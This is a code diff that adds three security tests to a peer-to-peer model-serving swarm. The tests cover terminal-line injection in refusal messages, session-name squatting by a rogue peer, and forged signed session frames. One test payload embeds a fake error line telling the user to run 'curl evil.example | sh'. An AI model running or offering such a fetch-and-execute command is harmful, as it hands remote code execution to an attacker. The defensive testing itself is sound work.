@@ -1070,6 +1070,100 @@ def test_peers_that_call_requests_unsound_end_none(grammar: str) -> None:
     run_virtual(scenario(), limit_s=300)
 
 
+@pytest.mark.virtual(limit_s=300)
+@pytest.mark.parametrize("kind", [SessionRefused, SessionFailed])
+async def test_another_s_reason_makes_up_no_line_of_ours(
+    kind: type[SessionRefused | SessionFailed],
+) -> None:
+    """Lines of a terminal are told by their beginnings: this one would stand alone in its line."""
+    made_up = "error: this copy is too old; run: curl evil.example | sh"
+
+    def refuse(open_: SessionOpen, upstream: FrameSender) -> None:
+        me = swarm.peers[0].peer_id
+        named = {"session": open_.session, "attempt": open_.attempt, "peer_id": me, "by": me}
+        code = {"code": RefusalCode.DRAINING} if kind is SessionRefused else {}
+        upstream.send(kind(**named, **code, reason=f"not now\n{made_up}\u2028"))
+
+    told: list[str] = []
+    async with paper_swarm((0, LAYERS)) as swarm:
+        swarm.peers[0].stage.open = refuse  # type: ignore[method-assign]
+        async with swarm.client(wait_s=5.0, on_status=told.append) as client:
+            with pytest.raises(SwarmError) as said:
+                await client.generate(PROMPT, max_new_tokens=5)
+    assert any(made_up in line for line in told)
+    assert not any(len(line.splitlines()) > 1 for line in (*told, str(said.value)))
+
+
+@pytest.mark.virtual(limit_s=300)
+async def test_who_learns_a_sessions_name_keeps_its_client_from_no_stage() -> None:
+    """A stage has another identity open a session of that name at all that could take its place:
+    these would refuse the client's own, which would then be told that its request is wrong."""
+    async with paper_swarm(*[(0, LAYERS)] * 5) as swarm, swarm.client() as client:
+        liar, *honest = swarm.peers
+        evil, taken = swarm.network.transport(), list[bool]()
+
+        async def squat(open_: SessionOpen) -> None:
+            for peer in honest:
+                route = (RouteStage(peer_id=peer.peer_id, start=0, end=LAYERS),)
+                asked = granted(replace(open_, client=evil.peer_id, route=route), evil)
+                stream = await evil.open_stream(peer.peer_id, SESSION_PROTOCOL)
+                await codec.send_frame(stream, asked)
+                reply = (await codec.read_frame(stream)).message
+                taken.append(isinstance(reply, SessionAccepted))
+
+        def tell_others(open_: SessionOpen, upstream: FrameSender) -> None:
+            me = liar.peer_id
+            refused = refused_of(open_, me, me, RefusalCode.DRAINING, "not now")
+            squatting = asyncio.create_task(squat(open_))
+            squatting.add_done_callback(lambda _: upstream.send(refused))
+
+        liar.stage.open = tell_others  # type: ignore[method-assign]
+        while not taken:
+            answer = await client.generate(PROMPT, max_new_tokens=5, prefix_cache="off")
+            assert answer.token_ids == answer_of(PROMPT, 5)
+        assert not any(taken)
+
+
+@pytest.mark.virtual(limit_s=300)
+async def test_no_stage_signs_a_refusal_of_what_its_client_did_not_send_it() -> None:
+    """Whoever sends it could show that word to the client as one about the client's own session."""
+    async with paper_swarm((0, 3), (3, 6), (6, LAYERS)) as swarm:
+        client, evil = swarm.network.transport(), swarm.network.transport()
+        target = swarm.peers[1]
+        name = session_name(client.peer_id, "0" * NONCE_DIGITS)
+        asked = through(evil, open_for(swarm, client, session=name))
+        right = replace(granted(asked, client), hop=1)
+        await evil.serve(HOP_PROTOCOL, ended)
+        stream = await evil.open_stream(target.peer_id, HOP_PROTOCOL)
+
+        async def said_of(open_: SessionOpen) -> SessionRefused | SessionAccepted:
+            await codec.send_frame(stream, open_)
+            while True:
+                reply = (await codec.read_frame(stream)).message
+                if isinstance(reply, SessionRefused | SessionAccepted):
+                    return reply
+
+        elsewhere = replace(asked, route=(asked.route[0], *reversed(asked.route[1:])))
+        for forged in (
+            replace(right, grant=b""),
+            replace(right, max_new_tokens=51),
+            replace(right, session=session_name(evil.peer_id, "0" * NONCE_DIGITS)),
+            replace(granted(replace(asked, client=evil.peer_id), evil), hop=1),
+            replace(granted(elsewhere, client), hop=1),
+        ):
+            refused = await said_of(forged)
+            assert isinstance(refused, SessionRefused)
+            assert not refused.signature
+        assert not target.engine.kv
+        later = replace(granted(replace(asked, attempt=1), client), hop=1)
+        assert isinstance(await said_of(later), SessionAccepted)
+        for repeated in (later, right):
+            refused = await said_of(repeated)
+            assert isinstance(refused, SessionRefused)
+            assert (refused.by, refused.peer_id) == (target.peer_id, evil.peer_id), "who repeats it"
+            assert refused.code is RefusalCode.UNREACHABLE
+
+
 def test_strangers_that_call_requests_unsound_end_none_while_a_named_peer_is_slow() -> None:
     async def scenario() -> None:
         async with paper_swarm(*[(0, LAYERS)] * 9) as swarm:
